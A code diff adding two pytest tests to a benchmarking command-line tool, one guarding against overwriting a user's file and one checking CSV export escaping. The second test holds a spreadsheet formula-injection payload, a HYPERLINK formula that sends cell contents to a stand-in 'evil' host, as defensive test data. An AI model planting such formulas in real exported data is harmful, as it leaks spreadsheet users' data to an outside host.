@@ -1,6 +1,7 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 import shutil
 import signal
@@ -9,12 +10,14 @@ import sys
 import time
 from collections.abc import Callable
 from pathlib import Path
+from types import SimpleNamespace
 
 import numpy as np
 import pytest
 
 from rsedge.bench.facts import Spread
 from rsedge.cli import common
+from rsedge.cli.bench import CSV_HEAD, to_csv
 from rsedge.cli.bench_tables import _spread
 from toys import TILE, make_bundle, pointwise_graph, pointwise_manifest
 
@@ -181,3 +184,22 @@ class TestTheModelOfThisFolder:
 )
 def test_spreads_keep_three_digits(found: Spread | None, text: str) -> None:
     assert _spread(found) == text
+
+
+def test_somebodys_file_is_not_replaced_by_csv_unasked(run: Run, taught: Path, tmp_path: Path) -> None:
+    thesis = tmp_path / "thesis.txt"
+    thesis.write_text("label,years of work")
+    code, _, err = run("bench", taught, *SHORT, "--csv", "thesis.txt")
+    assert code == 2
+    assert "thesis.txt is a file that rsedge did not write; choose another name, or --overwrite it" in err
+    assert thesis.read_text() == "label,years of work"
+    for more in (["--overwrite"], []):  # then it is its own
+        assert run("bench", taught, *SHORT, "--csv", "thesis.txt", *more)[0] == 0
+    assert thesis.read_text().startswith(CSV_HEAD)
+
+
+def test_a_models_name_is_no_formula() -> None:
+    name = '=HYPERLINK("http://evil/?"&A1,"open")'
+    row = SimpleNamespace(to_dict=lambda: {"label": "1", "role": "student", "name": name, "drop": -0.5})
+    (found,) = csv.DictReader(io.StringIO(to_csv(SimpleNamespace(rows=[row]))))
+    assert found == {"label": "1", "role": "student", "name": f"'{name}", "drop": "-0.5"}
